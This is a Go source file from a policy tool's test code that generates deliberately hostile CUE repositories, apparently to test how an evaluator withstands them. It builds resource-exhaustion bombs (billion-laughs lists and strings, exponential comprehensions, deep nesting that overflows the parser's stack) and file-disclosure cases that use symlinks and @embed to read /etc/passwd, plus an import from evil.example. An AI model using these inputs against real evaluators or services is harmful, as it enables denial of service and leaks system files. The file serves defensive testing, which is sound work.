// SPDX-FileCopyrightText: The writ authors
// SPDX-License-Identifier: Apache-2.0

package treegen

import (
	"bytes"
	"fmt"
	"strings"
)

// Hostile is a small policy repository that means harm: to whoever evaluates it, or to what it reads. Beside what does harm it has a
// module, the vendored schema and library, and a root file that states the pattern of workloads. Compiling one must end in an error.
type Hostile struct {
	Name  string
	Files map[string][]byte // by slash-separated path
	Links map[string]string // symbolic links, by path: their targets
	// Harm says what plain cue v0.17.1 does with it, as measured.
	Harm string
}

// Write writes the repository into a folder, which may exist.
func (h Hostile) Write(dir string) error {
	if err := Write(dir, h.Files); err != nil {
		return err
	}
	return writeLinks(dir, h.Links)
}

// What several of them do.
const (
	structuralCycle = "an error at once: a structural cycle"
	boundedExponent = "an error at once: CUE bounds exponents at 100,000"
	boundedNesting  = "an error at once: the parser bounds nested expressions"
	stackOverflow   = "dies of a stack of 1 GB in the parser, which nothing can recover"
)

// hugeFile is the size of the largest hostile file, in bytes.
const hugeFile = 100 << 20

// HostileTrees returns every hostile repository, in a fixed order. One of them holds a file of 100 MB, made anew by each call.
func HostileTrees() []Hostile {
	var all []Hostile
	add := func(name, harm, text string) {
		all = append(all, newHostile(name, harm, map[string][]byte{"bad.cue": []byte("package policy\n\n" + text)}))
	}
	addEvaluated(add)
	addBuiltins(add)
	addParsed(add)
	return append(all, hostileOutside()...)
}

func newHostile(name, harm string, files map[string][]byte) Hostile {
	files["writ.cue"] = []byte("package policy\n\nimport \"github.com/writ-sec/writ/schema\"\n\nworkload: [string]: schema.#Workload\n")
	files[moduleFile] = []byte(module)
	vendor(files)
	return Hostile{Name: name, Files: files, Harm: harm}
}

// victim is a workload with an entry that makes the evaluator compute what the entry refers to. Paths below are not absolute, so an evaluator
// that gets to the end finds an error there.
func victim(exec string) string {
	return "\nworkload: victim: {\n\tmatch: namespace: \"n\"\n\texec: {\n\t\t" + exec + "\n\t}\n}\n"
}

// repeat joins n texts that f makes of their numbers.
func repeat(n int, sep string, f func(i int) string) string {
	parts := make([]string, n)
	for i := range parts {
		parts[i] = f(i)
	}
	return strings.Join(parts, sep)
}

// addEvaluated adds what CUE's own constructs do to the evaluator.
func addEvaluated(add func(name, harm, text string)) {
	digits := "_l: [0, 1, 2, 3, 4, 5, 6, 7, 8, 9]\n"
	loops := repeat(9, " ", func(i int) string { return fmt.Sprintf("for x%d in _l", i) })
	key := repeat(9, "", func(i int) string { return fmt.Sprintf("\\(x%d)", i) })
	add("comprehension", "makes a list of 10^9 elements; does not end",
		digits+"_n: ["+loops+" {x0}]\n"+victim("if len(_n) > 0 {\"bin/x\": {}}"))
	add("comprehension-rules", "makes 10^9 rules; 2.5 GiB after 15 s, then dies for want of memory",
		digits+victim(loops+" {\"/bin/"+key+"\": {}}"))
	add("disjunction", "tries 2^30 combinations; does not end, 0.5 GiB after 20 s",
		repeat(30, "", func(i int) string { return fmt.Sprintf("_d%d: {a%d: 1} | {b%d: 1}\n", i, i, i) })+
			"_d: "+repeat(30, " & ", func(i int) string { return fmt.Sprintf("_d%d", i) })+"\n"+victim("if _d.a0 > 0 {\"bin/x\": {}}"))
	add("laughs-lists", "flattens a list of 10^13 elements; does not end",
		"import \"list\"\n\n_a0: [0]\n"+
			repeat(12, "", func(i int) string {
				return fmt.Sprintf("_a%d: [%s]\n", i+1, repeat(10, ", ", func(int) string { return fmt.Sprintf("_a%d", i) }))
			})+
			victim("if len(list.FlattenN(_a12, -1)) > 0 {\"bin/x\": {}}"))
	add("laughs-structs", "makes a struct of 10^12 fields, different ones so that nothing is shared; does not end, 0.9 GiB after 8 s of CPU",
		"_a0: x: {}\n"+
			repeat(12, "", func(i int) string {
				return fmt.Sprintf("_a%d: {%s}\n", i+1, repeat(10, ", ", func(j int) string { return fmt.Sprintf("f%d: _a%d & {y%d: %d}", j, i, i, j) }))
			})+victim("for k, _ in _a12 {\"/bin/\\(k)\": {}}"))
	add("laughs-strings", "doubles a string 40 times; dies for want of memory after 3 s",
		"_s0: \"lol lol lol lol \"\n"+
			repeat(40, "", func(i int) string { return fmt.Sprintf("_s%d: \"\\(_s%d)\\(_s%d)\"\n", i+1, i, i) })+victim("\"/bin/x\": why: _s40"))
	add("squares", boundedExponent,
		"_n0: 10\n"+repeat(40, "", func(i int) string { return fmt.Sprintf("_n%d: _n%d * _n%d\n", i+1, i, i) })+
			victim("if _n40 > 0 {\"bin/x\": {}}"))
	add("patterns", "matches each of 12,000 fields against 12,000 patterns: a minute of CPU in little memory",
		"_p: {\n"+repeat(12_000, "\n", func(i int) string { return fmt.Sprintf("\t[=~\"^.*x%d.*$\"]: int", i) })+"\n"+
			repeat(12_000, "\n", func(i int) string { return fmt.Sprintf("\tf%d: %d", i, i) })+"\n}\n"+victim("if _p.f0 >= 0 {\"bin/x\": {}}"))
	add("fibonacci", structuralCycle,
		"#Fib: {\n\tn: int\n\tout: [if n < 2 {n}, (#Fib & {\"n\": n - 1}).out + (#Fib & {\"n\": n - 2}).out][0]\n}\n"+
			victim("if (#Fib & {n: 60}).out > 0 {\"bin/x\": {}}"))
	add("recursion", structuralCycle,
		"#A: b: #A\n_a: #A\n"+victim("if _a.b != _|_ {\"bin/x\": {}}"))
	add("recursion-list", structuralCycle,
		"#A: [#A, #A]\n_a: #A\n"+victim("if len(_a) > 0 {\"bin/x\": {}}"))
	add("recursion-numbers", structuralCycle,
		"#A: {n: int, next: #A & {\"n\": n + 1}}\n_a: #A & {n: 0}\n"+victim("if _a.next.next.n > 0 {\"bin/x\": {}}"))
	add("cycle", structuralCycle,
		"_a: _b & {x: _b}\n_b: _a\n"+victim("if _a.x != _|_ {\"bin/x\": {}}"))
	add("chain", "follows 60,000 references in quadratic time; does not end",
		repeat(60_000, "", func(i int) string { return fmt.Sprintf("_c%d: _c%d\n", i, i+1) })+"_c60000: 1\n"+
			victim("if _c0 > 0 {\"bin/x\": {}}"))
}

// addBuiltins adds what functions of CUE's standard library do, which run in one piece: the evaluator cannot be asked to stop within.
func addBuiltins(add func(name, harm, text string)) {
	add("string-repeat", "asks for 16 GB at once and dies for want of memory",
		"import \"strings\"\n"+victim("\"/bin/x\": why: strings.Repeat(strings.Repeat(\"0123456789abcdef\", 1000), 1_000_000)"))
	add("list-range", "makes a list of 10^9 numbers; 2.5 GiB after 20 s",
		"import \"list\"\n"+victim("if len(list.Range(0, 1_000_000_000, 1)) > 0 {\"bin/x\": {}}"))
	add("list-repeat", "asks for 24 GB at once and dies for want of memory",
		"import \"list\"\n"+victim("if len(list.Repeat(list.Repeat([0], 1000), 1_000_000)) > 0 {\"bin/x\": {}}"))
	add("power", boundedExponent,
		"import \"math\"\n"+victim("if math.Pow(10, 1_000_000_000) > 1 {\"bin/x\": {}}"))
	add("power-integer", boundedExponent,
		"import \"math\"\n_n: math.Floor(math.Pow(3, 100_000_000))\n"+victim("\"bin/\\(_n)\": {}"))
	add("template", "writes 160 GB into one string; dies for want of memory after 7 s",
		"import \"text/template\"\n"+victim("\"/bin/x\": why: template.Execute(\"{{range 10000000000}}0123456789abcdef{{end}}\", {})"))
	add("yaml-aliases", "an error at once: the YAML parser counts aliases",
		"import \"encoding/yaml\"\n_y: yaml.Unmarshal(\"\"\"\n\ta0: &a0 [x, x, x, x, x, x, x, x, x, x]\n"+
			repeat(11, "", func(i int) string {
				return fmt.Sprintf("\ta%d: &a%d [%s]\n", i+1, i+1, repeat(10, ", ", func(int) string { return fmt.Sprintf("*a%d", i) }))
			})+"\t\"\"\")\n"+victim("if len(_y.a11) > 0 {\"bin/x\": {}}"))
	add("regexp-replace", "makes a string of 10^12 bytes; dies for want of memory after 3 s",
		"import (\n\t\"regexp\"\n\t\"strings\"\n)\n"+
			victim("\"/bin/x\": why: regexp.ReplaceAll(\"a\", strings.Repeat(\"a\", 1_000_000), strings.Repeat(\"b\", 1_000_000))"))
	add("sort", "compares 100,000 numbers by unifying structs; does not end, 1.4 GiB after 20 s",
		"import \"list\"\n_l: [for i in list.Range(0, 100_000, 1) {mod(i*7919, 99_991)}]\n"+
			victim("if len(list.Sort(_l, list.Ascending)) > 0 {\"bin/x\": {}}"))
}

// addParsed adds what the scanner, the parser and the compiler of CUE's expressions have to carry.
func addParsed(add func(name, harm, text string)) {
	add("regexp", "compiles a pattern of 3.6 MB; dies for want of memory after 5 s",
		"_r: =~\""+strings.Repeat("(a|b)?", 600_000)+"\"\n_x: _r & \"aaaa\"\n"+victim("if _x != \"\" {\"bin/x\": {}}"))
	add("regexp-counted", "compiles 20,000 patterns of a thousand instructions each; valid, after 13 s of CPU",
		repeat(20_000, "", func(i int) string {
			return fmt.Sprintf("_r%d: =~\"^(x%d[a-zA-Z\\\\pL]{0,500}){1,2}$\" & \"x%d\"\n", i, i, i)
		})+
			victim("if "+repeat(100, " && ", func(i int) string { return fmt.Sprintf("_r%d != \"\"", i) })+" {\"bin/x\": {}}"))
	add("number", "valid, at once",
		"_n: 1e999999999\n"+victim("\"bin/\\(_n)\": {}"))
	add("number-port", "an error at once: not an integer",
		"workload: victim: {\n\tmatch: namespace: \"n\"\n\tegress: x: {cidr: \"192.0.2.1/32\", port: 1e999999999}\n}\n")
	add("number-digits", "multiplies numbers of 3,000,000 digits; an error after 20 s of CPU",
		"_n: "+strings.Repeat("9", 3_000_000)+"\n_m: _n * _n * _n\n"+victim("if _m > 0 {\"bin/x\": {}}"))
	add("nesting-structs", boundedNesting,
		"_a: "+strings.Repeat("{a: ", 100_000)+"1"+strings.Repeat("}", 100_000)+"\n")
	add("nesting-fields", stackOverflow,
		strings.Repeat("a: ", 1_000_000)+"1\n")
	add("nesting-lists", boundedNesting,
		"_a: "+strings.Repeat("[", 1_000_000)+strings.Repeat("]", 1_000_000)+"\n")
	add("nesting-parentheses", boundedNesting,
		"_a: "+strings.Repeat("(", 1_000_000)+"1"+strings.Repeat(")", 1_000_000)+"\n")
	add("long-sum", stackOverflow,
		"_a: 1"+strings.Repeat(" + 1", 900_000)+"\n"+victim("if _a > 0 {\"bin/x\": {}}"))
	add("interpolations", boundedNesting,
		"_a: "+strings.Repeat("\"\\(", 100_000)+"1"+strings.Repeat(")\"", 100_000)+"\n")
	add("errors", "finds 30,000 errors in quadratic time; does not end, 1.4 GiB after 20 s",
		repeat(30_000, "", func(i int) string { return fmt.Sprintf("workload: w%d: bogus: %d\n", i, i) }))
	add("long-key", "valid, at once: a path of 3 MB",
		victim("\"/bin/"+strings.Repeat("x", 3_000_000)+"\": {}"))
}

// hostileOutside returns repositories whose harm is not in what one file says.
func hostileOutside() []Hostile {
	one := func(name, harm string, files map[string]string) Hostile {
		data := map[string][]byte{}
		for path, text := range files {
			data[path] = []byte(text)
		}
		return newHostile(name, harm, data)
	}
	plain := "package policy\n" + victim("\"/bin/x\": {}")
	huge := newHostile("huge-file", "valid, after 3 s in 0.7 GiB", map[string][]byte{
		"bad.cue": append([]byte(plain), bytes.Repeat([]byte("// nothing to see here, go on\n"), hugeFile/30)...),
	})
	link := one("link", "reads the target as a policy file; an error at once, which quotes it", map[string]string{"good.cue": plain})
	link.Links = map[string]string{"bad.cue": "/etc/passwd"}
	linkFolder := one("link-folder", "does not see it", map[string]string{"good.cue": plain})
	linkFolder.Links = map[string]string{"team": "/etc"}
	linkEmbed := one("link-embed", "valid, and exports what the link leads to", map[string]string{
		"bad.cue": "@extern(embed)\n\npackage policy\n\n_secret: _ @embed(file=\"data.txt\", type=text)\n" + victim("\"/bin/x\": why: _secret"),
	})
	linkEmbed.Links = map[string]string{"data.txt": "/etc/passwd"}
	return []Hostile{
		huge, link, linkFolder, linkEmbed,
		one("embed", "valid, and exports the file", map[string]string{
			"bad.cue":    "@extern(embed)\n\npackage policy\n\n_secret: _ @embed(file=\"secret.txt\", type=text)\n" + victim("\"/bin/x\": why: _secret"),
			"secret.txt": "secret",
		}),
		one("import-cycle", "an error at once", map[string]string{
			"bad.cue": "package policy\n\nimport \"policy.example/policy/a\"\n" + victim("\"/bin/x\": why: a.x"),
			"a/a.cue": "package a\n\nimport \"policy.example/policy/b\"\n\nx: b.x\n",
			"b/b.cue": "package b\n\nimport \"policy.example/policy/a\"\n\nx: a.x\n",
		}),
		one("import-registry", "asks the registry for the module", map[string]string{
			"bad.cue": "package policy\n\nimport \"evil.example/module@v0\"\n" + victim("\"/bin/x\": why: module.x"),
		}),
		one("extern", "an error at once: the command is built without WebAssembly", map[string]string{
			"bad.cue":   "@extern(wasm)\n\npackage policy\n\n_f: _ @extern(\"evil.wasm\", abi=c, sig=\"func(int64): int64\")\n" + victim("\"/bin/x\": why: \"\\(_f(1))\""),
			"evil.wasm": "\x00asm\x01\x00\x00\x00",
		}),
	}
}
